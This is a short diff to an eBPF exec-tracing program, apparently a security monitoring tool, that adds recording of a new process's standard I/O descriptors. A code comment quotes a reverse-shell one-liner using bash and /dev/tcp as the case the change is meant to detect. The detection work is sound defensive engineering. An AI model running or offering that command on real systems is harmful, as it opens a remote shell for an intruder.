@@ -8,6 +8,7 @@
 #include "emit.bpf.h"
 #include "filter.bpf.h"
 #include "record.bpf.h"
+#include "syscall.bpf.h"
 
 char LICENSE[] SEC("license") = "Dual BSD/GPL";
 
@@ -149,6 +150,11 @@ int BPF_PROG(yg_exec, struct task_struct *task, pid_t old_pid, struct linux_binp
 	r->env_size = 0;
 	r->flags = 0;
 	r->pad0 = 0;
+	__builtin_memset(r->stdio, 0, sizeof(r->stdio));
+	/* The new image's descriptors: close-on-exec ones are closed by now
+	 * (begin_new_exec), so `bash -i >& /dev/tcp/h/p 0>&1` shows its socket. */
+	if (sys__stdio(r->stdio, task))
+		r->flags |= YG_EXEC_STDIO;
 
 	off = record__path(s, off, YG_EXEC_STR_EXE, (__u64)&exe->f_path);
 	off = record__kstr(s, off, YG_EXEC_STR_FILENAME, filename, YG_PATH_MAX);
